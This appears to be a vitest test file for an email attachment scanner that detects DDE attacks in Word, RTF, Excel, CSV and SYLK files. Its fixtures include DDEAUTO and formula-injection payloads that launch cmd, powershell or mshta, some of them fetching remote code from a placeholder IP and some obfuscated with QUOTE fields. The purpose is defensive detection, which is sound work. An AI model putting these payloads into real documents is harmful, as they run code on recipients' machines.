import CFB from 'cfb';
import { describe, expect, it } from 'vitest';
import * as o from '../../../../test-fixtures/attachments/office-payloads.mjs';
import * as p from '../../../../test-fixtures/attachments/payloads.mjs';
import type { Finding } from '../types.js';
import { makeContext, makeMessage, makePolicy } from '../test-helpers.js';
import { biff, brt, ddeDocx, ddeXls, ddeXlsb, ddeXlsx, fld, run, splitField, wordXml } from './lure-fixtures.js';
import { ddeProgram, formulaDdeHits, rtfDdeHits, wordBinaryDdeHits, wordDdeHits, wordFieldInstructions, xlsbDdeHits } from './dde.js';
import { nameXTokens, workbookDdeLinks } from './xls.js';
import { attachmentsScanner } from './index.js';
import { fakeClamd, makeAttachment } from './test-helpers.js';

/** DDE in Word fields (OOXML, RTF, .doc), Excel formulas and links, CSV/SYLK/web queries (dde.ts). */

const scan = async (name: string, data: Buffer, contentType = 'application/octet-stream') => {
  const att = makeAttachment(name, data, { contentType, id: 'a1' });
  return attachmentsScanner.scan(makeMessage({ attachments: [att] }), makeContext(makePolicy(), { clamd: fakeClamd() }));
};
const dde = (fs: Finding[]) => fs.filter((f) => f.tags?.includes('dde')).map((f) => [f.kind, ...(f.tags ?? [])]);

describe('DDE in Word fields', () => {
  it('reads a DDEAUTO field split over runs, in the body and in a header', async () => {
    const body = splitField('D', 'DE', 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe ', '"/k powershell -c calc"');
    expect(dde(await scan('thong-bao.docx', await ddeDocx(body)))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
    expect(dde(await scan('thong-bao.docx', await ddeDocx(body, 'word/header1.xml')))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
  });

  it('reads w:fldSimple instructions and DDE names built by a nested QUOTE field', () => {
    const simple = `<w:fldSimple w:instr=" DDE &quot;C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord.exe\\\\..\\\\..\\\\..\\\\..\\\\windows\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -NoP -w hidden&quot; &quot;x&quot;"><w:r><w:t>x</w:t></w:r></w:fldSimple>`;
    expect(wordDdeHits(wordXml(simple)).map((h) => h.program)).toEqual(['powershell']);
    // { {QUOTE 68 68 69 65 85 84 79} c:\windows\system32\mshta.exe "http://…" }
    const nested = `${fld('begin')}${fld('begin')}${run('QUOTE 68 68 69 65 85 84 79')}${fld('end')}${run(' c:\\\\windows\\\\system32\\\\mshta.exe http://198.51.100.7/a.hta')}${fld('end')}`;
    expect(wordFieldInstructions(wordXml(nested))).toContain('DDEAUTO c:\\\\windows\\\\system32\\\\mshta.exe http://198.51.100.7/a.hta');
    expect(wordDdeHits(wordXml(nested)).map((h) => h.program)).toEqual(['mshta']);
  });

  it('finds a DDE field after a thousand ordinary fields, and a simple field with a long instruction', () => {
    const many = splitField(' PAGEREF _Toc1 \\h ').repeat(1000) + splitField('DDEAUTO cmd "/c calc"');
    expect(wordDdeHits(wordXml(many)).map((h) => h.program)).toEqual(['cmd']);
    const long = `<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k powershell -enc ${'A'.repeat(3000)}&quot;"/>`;
    expect(wordDdeHits(wordXml(long)).map((h) => h.program)).toEqual(['cmd']);
  });

  it('says nothing of ordinary fields (PAGE, TOC, HYPERLINK) or the word "DDE" in text', async () => {
    const body = `${splitField(' PAGE ')}${splitField(' TOC \\o "1-3" ')}${splitField(' HYPERLINK "https://dichvucong.gov.vn" ')}<w:r><w:t>DDEAUTO là gì?</w:t></w:r>`;
    expect(await scan('ke-hoach.docx', await ddeDocx(body))).toEqual([]);
  });

  it('reads an RTF \\fldinst DDEAUTO, also split by groups and control words', async () => {
    const rtf = Buffer.from('{\\rtf1{\\field{\\*\\fldinst {\\rtlch\\fcs1 DD}{E}{AUTO c:\\\\\\\\windows\\\\\\\\system32\\\\\\\\cmd.exe "/k calc"}}{\\fldrslt x}}}', 'latin1');
    expect(rtfDdeHits(rtf).map((h) => h.program)).toEqual(['cmd']);
    expect(dde(await scan('cong-van.rtf', rtf))).toEqual([['attachment.exploit', 'dde', 'cmd', 'rtf']]);
    const page = Buffer.from('{\\rtf1{\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} Trang}', 'latin1');
    expect(await scan('cong-van.rtf', page)).toEqual([]);
  });

  it('reads a DDE field in a legacy .doc (8-bit and UTF-16 text)', async () => {
    for (const enc of ['latin1', 'utf16le'] as const) {
      const text = Buffer.from('Kính gửi \x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc" \x14 x\x15', enc);
      expect(wordBinaryDdeHits(Buffer.concat([Buffer.alloc(1024), text])).map((h) => h.program)).toEqual(['cmd']);
      const doc = o.makeCompoundFile({ '/WordDocument': Buffer.concat([Buffer.alloc(1024), text, Buffer.alloc(512)]), '/1Table': Buffer.alloc(512) });
      expect(dde(await scan('cong-van.doc', doc))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ole']]);
    }
    const page = Buffer.from('\x13 PAGE \x14 1\x15 DDE ', 'latin1');
    expect(wordBinaryDdeHits(page)).toEqual([]);
  });
});

describe('DDE in Excel formulas and links', () => {
  it('finds the formula shapes (=cmd|, =MSEXCEL|, @SUM(cmd|…), =DDE(…), a SYLK ;E cell)', () => {
    const progs = (t: string) => formulaDdeHits(t).map((h) => h.program);
    expect(progs(`=cmd|' /C calc'!A0`)).toEqual(['cmd']);
    expect(progs(`=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c powershell -enc AAAA'!''`)).toEqual(['cmd']);
    expect(progs(`@SUM(1+1)*cmd|' /C mshta http://198.51.100.7/x'!A0`)).toEqual(['cmd']);
    expect(progs(`=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`)).toEqual(['cmd']);
    expect(progs(`C;X1;Y1;K0;ECMD|' /C powershell -w hidden'!A0`)).toEqual(['cmd']);
    expect(progs(`=BLP|'IBM US Equity'!PX_LAST`)).toEqual(['blp']);
    // prose with bars, quotes and bangs is not a formula
    expect(progs(`ten | 'mot'! hai, a|b, x = y | 'z'`)).toEqual([]);
    expect(ddeProgram(`DDEAUTO c:\\windows\\system32\\WindowsPowerShell\\v1.0\\powershell.exe -nop`)).toBe('powershell');
  });

  it('reports a CSV, a SYLK and a web query calling a program, and an .xlsx ddeLink', async () => {
    const csv = Buffer.from(`STT,Ho ten,Ghi chu\r\n1,Nguyen Van A,"=cmd|' /C powershell -w hidden IEX(iwr http://198.51.100.7/a)'!A0"\r\n`, 'latin1');
    expect(dde(await scan('danh-sach.csv', csv, 'text/csv'))).toEqual([['attachment.exploit', 'dde', 'cmd', 'csv']]);
    const slk = Buffer.from(`ID;P\r\nC;Y1;X1;K0;ECMD|' /C calc'!A0\r\nE\r\n`, 'latin1');
    expect(dde(await scan('bang-luong.slk', slk))).toEqual([['attachment.exploit', 'dde', 'cmd', 'slk']]);
    const iqy = Buffer.from('WEB\r\n1\r\nhttps://198.51.100.7/bao-cao.dqy\r\n', 'latin1');
    const fs = await scan('bao-cao.iqy', iqy);
    expect(fs.filter((f) => f.kind === 'attachment.external-object').map((f) => f.tags)).toEqual([['web-query', 'https', 'iqy']]);
    expect(dde(await scan('so-lieu.xlsx', await ddeXlsx('cmd', '/C calc')))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
    expect(dde(await scan('so-lieu.xlsx', await ddeXlsx('', '', "cmd|' /C calc'!A0")))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
  });

  it('reports a DDE link to a data program (not a command) as an external object', async () => {
    expect(dde(await scan('gia.xlsx', await ddeXlsx('BLP', 'IBM US Equity')))).toEqual([['attachment.external-object', 'dde', 'blp', 'ooxml']]);
  });

  it('says nothing of an ordinary CSV (with formulas and bars) or .xlsx', async () => {
    const csv = Buffer.from(`STT,Ho ten,Tong\r\n1,"Nguyen | Van A",=SUM(A1:A3)\r\n2,'x'!,=HYPERLINK("https://dichvucong.gov.vn")\r\n`, 'latin1');
    expect(await scan('danh-sach.csv', csv, 'text/csv')).toEqual([]);
    expect(await scan('so-lieu.xlsx', await ddeXlsx('', ''))).toEqual([]);
  });
});

describe('DDE in RTF fields built from nested QUOTE fields', () => {
  const codes = (s: string) => [...s].map((c) => c.charCodeAt(0)).join(' ');
  const quote = (s: string) => `{\\field{\\*\\fldinst QUOTE ${codes(s)}}{\\fldrslt ${s.length > 3 ? 'x' : 'y'}}}`;

  it('decodes a QUOTE field that builds the program, and one that builds the word DDEAUTO', async () => {
    const program = Buffer.from(`{\\rtf1{\\field{\\*\\fldinst DDEAUTO ${quote('c:\\windows\\system32\\cmd.exe')} "/k calc"}{\\fldrslt z}}}`, 'latin1');
    expect(rtfDdeHits(program).map((h) => [h.program, h.text])).toEqual([['cmd', 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"']]);
    const word = Buffer.from(`{\\rtf1{\\field{\\*\\fldinst ${quote('DDEAUTO')} c:\\\\windows\\\\system32\\\\mshta.exe http://198.51.100.7/a.hta}{\\fldrslt x}}}`, 'latin1');
    expect(rtfDdeHits(word).map((h) => h.program)).toEqual(['mshta']);
    expect(dde(await scan('cong-van.rtf', word))).toEqual([['attachment.exploit', 'dde', 'mshta', 'rtf']]);
  });

  it('decodes QUOTE fields nested in QUOTE fields, and reads nested fields 8 levels deep, no deeper', () => {
    const twice = Buffer.from(`{\\rtf1{\\field{\\*\\fldinst {\\field{\\*\\fldinst QUOTE ${codes('DDE')}}}{\\field{\\*\\fldinst QUOTE {\\field{\\*\\fldinst QUOTE ${codes('65 85')}}} 84 79}} cmd.exe "/c calc"}}}`, 'latin1');
    // QUOTE of "65 85"'s codes gives "65 85"; the outer QUOTE then reads 65 85 84 79: "AUTO"
    expect(rtfDdeHits(twice).map((h) => h.text)).toEqual(['DDEAUTO cmd.exe "/c calc"']);
    // a DDE field at nesting level `levels` inside IF fields
    const nested = (levels: number) => {
      let f = '{\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}}';
      for (let k = 0; k < levels; k++) f = `{\\field{\\*\\fldinst IF 1 = 1 ${f}}}`;
      return Buffer.from(`{\\rtf1${f}}`, 'latin1');
    };
    expect(rtfDdeHits(nested(8)).map((h) => h.program)).toEqual(['cmd']);
    expect(rtfDdeHits(nested(9))).toEqual([]);
  });

  it('reads a DDE field nested inside another field, and leaves ordinary nested fields alone', async () => {
    const inner = Buffer.from(`{\\rtf1{\\field{\\*\\fldinst IF 1 = 1 {\\field{\\*\\fldinst DDEAUTO cmd "/c calc"}{\\fldrslt a}} b}{\\fldrslt c}}}`, 'latin1');
    expect(rtfDdeHits(inner).map((h) => h.program)).toEqual(['cmd']);
    const ordinary = Buffer.from(`{\\rtf1{\\field{\\*\\fldinst IF {\\field{\\*\\fldinst PAGE}{\\fldrslt 1}} = 1 "${quote('abc')}" ""}{\\fldrslt x}} Trang}`, 'latin1');
    expect(rtfDdeHits(ordinary)).toEqual([]);
    expect(await scan('cong-van.rtf', ordinary)).toEqual([]);
  });
});

describe('DDE links in legacy (.xls) and binary (.xlsb) workbooks', () => {
  it('reads the SUPBOOK/EXTERNNAME DDE link of an .xls and the formula that uses it', async () => {
    const stream = (xls: Buffer) => {
      // the Workbook stream of the compound file, as macros.ts reads it
      const c = CFB.read(xls, { type: 'buffer' });
      return Buffer.from(CFB.find(c, 'Workbook')!.content as Uint8Array);
    };
    expect(workbookDdeLinks(stream(ddeXls('cmd', " /C powershell -w hidden -c calc")))).toEqual([{ service: 'cmd', topic: ' /C powershell -w hidden -c calc', items: ['A0'], formulas: 1, names: [] }]);
    expect(workbookDdeLinks(stream(ddeXls('MSEXCEL', '\\..\\..\\Windows\\System32\\cmd.exe /c calc', { wide: true, formula: false })))).toEqual([
      { service: 'MSEXCEL', topic: '\\..\\..\\Windows\\System32\\cmd.exe /c calc', items: ['A0'], formulas: 0, names: [] },
    ]);
    expect(dde(await scan('bang-luong.xls', ddeXls('cmd', ' /C calc'), 'application/vnd.ms-excel'))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ole', 'xls']]);
    const fs = await scan('bang-luong.xls', ddeXls('cmd', ' /C calc'));
    expect(fs.find((f) => f.tags?.includes('dde'))?.detail).toMatch(/Excel workbook with a DDE formula "cmd\|' \/C calc'!A0"/);
    expect(dde(await scan('bang-luong.xls', ddeXls('cmd', ' /C calc', { formula: false })))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ole', 'xls']]);
  });

  it('reports a data-feed DDE link as an external object, and says nothing of OLE links or a plain .xls', async () => {
    expect(dde(await scan('gia.xls', ddeXls('BLP', 'IBM US Equity', { item: 'PX_LAST' })))).toEqual([['attachment.external-object', 'dde', 'blp', 'ole', 'xls']]);
    expect(dde(await scan('gia.xls', ddeXls('Excel.Sheet.8', 'C:\\a.xls', { ole: true })))).toEqual([]);
    expect(dde(await scan('so-lieu.xls', p.makeXls()))).toEqual([]);
  });

  it('walks formula tokens by their sizes (a NameX inside a string is not a token)', () => {
    const str = Buffer.concat([Buffer.from([0x17, 7, 0]), Buffer.from([0x39, 1, 0, 1, 0, 0, 0]), Buffer.from([0x39, 2, 0, 3, 0, 0, 0])]);
    expect(nameXTokens(str)).toEqual([[2, 3]]);
    const choose = Buffer.from([0x19, 0x04, 1, 0, 0x39, 0, 0x39, 0, 0x39, 5, 0, 6, 0, 0, 0]); // tAttrChoose with 2 offsets (that look like NameX)
    expect(nameXTokens(choose)).toEqual([[5, 6]]);
    expect(nameXTokens(Buffer.from([0x18, 0x39, 1, 0, 1, 0, 0, 0]))).toEqual([]); // PtgExtended: the walk stops
  });

  it('reads the BrtBeginSupBook DDE link of an .xlsb external link part', async () => {
    expect(dde(await scan('bao-cao.xlsb', await ddeXlsb('cmd', ' /C calc')))).toEqual([['attachment.exploit', 'dde', 'cmd', 'ooxml']]);
    expect(dde(await scan('gia.xlsb', await ddeXlsb('BLP', 'IBM US Equity')))).toEqual([['attachment.external-object', 'dde', 'blp', 'ooxml']]);
    expect(dde(await scan('bao-cao.xlsb', await ddeXlsb('C:\\so-lieu.xlsx', '', 0)))).toEqual([]);
    expect(xlsbDdeHits(brt(360, Buffer.from([1, 0, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff])))).toEqual([{ how: 'dde-link', program: '', text: "|''" }]);
  });

  it('survive truncated and lying records', () => {
    const xlsStream = Buffer.concat([biff(0x0809, Buffer.alloc(16)), biff(0x01ae, Buffer.from([0, 0, 200, 0, 0, 0x63, 0x6d, 0x64, 3])), biff(0x0023, Buffer.alloc(3))]);
    expect(() => workbookDdeLinks(xlsStream)).not.toThrow();
    expect(workbookDdeLinks(xlsStream).map((l) => l.service)).toEqual(['cmd']);
    for (let cut = 0; cut < 40; cut++) expect(() => xlsbDdeHits(brt(360, Buffer.concat([Buffer.from([1, 0]), Buffer.from([3, 0, 0, 0]), Buffer.from('cmd', 'utf16le'), Buffer.from([0x40, 0, 0, 0])])).subarray(0, cut))).not.toThrow();
    expect(xlsbDdeHits(Buffer.from([0xe8, 0x02, 0xff, 0xff, 0xff, 0x7f, 1, 0]))).toEqual([]);
  });
});

describe('DDE readers on hostile input', () => {
  it('stay linear on 4 MB of bars, field runs and \\fldinst groups', () => {
    const t0 = performance.now();
    formulaDdeHits(`=a|'`.repeat(1 << 20));
    formulaDdeHits('|'.repeat(4 << 20));
    wordDdeHits(`<w:instrText>`.repeat(300_000));
    wordDdeHits(`<w:fldChar w:fldCharType="begin"/>`.repeat(120_000));
    wordDdeHits(`<w:fldSimple w:instr="`.repeat(200_000));
    rtfDdeHits(Buffer.from('{\\fldinst '.repeat(400_000), 'latin1'));
    rtfDdeHits(Buffer.from(`\\fldinst${'{'.repeat(4 << 20)}`, 'latin1'));
    wordBinaryDdeHits(Buffer.from('\x13DDE'.repeat(1 << 20), 'latin1'));
    expect(performance.now() - t0).toBeLessThan(5000);
  });
  it('stay linear on nested \\fldinst/QUOTE groups, 300,000 SUPBOOK records and 4 MB of BIFF12 headers', () => {
    const quotes = Buffer.from('{\\fldinst {\\field{\\*\\fldinst QUOTE 68 '.repeat(100_000), 'latin1');
    const results = Buffer.from('{\\field{\\*\\fldinst {\\fldrslt '.repeat(100_000), 'latin1');
    const supbook = biff(0x01ae, Buffer.from([0, 0, 3, 0, 0, 0x61, 3, 0x62]));
    const books = Buffer.concat([biff(0x0809, Buffer.alloc(16)), Buffer.alloc(0), ...new Array<Buffer>(300_000).fill(supbook)]);
    const t0 = performance.now();
    rtfDdeHits(quotes);
    rtfDdeHits(results);
    expect(workbookDdeLinks(books)).toHaveLength(256);
    xlsbDdeHits(Buffer.alloc(4 << 20, 0x01));
    expect(performance.now() - t0).toBeLessThan(3000);
  });
});
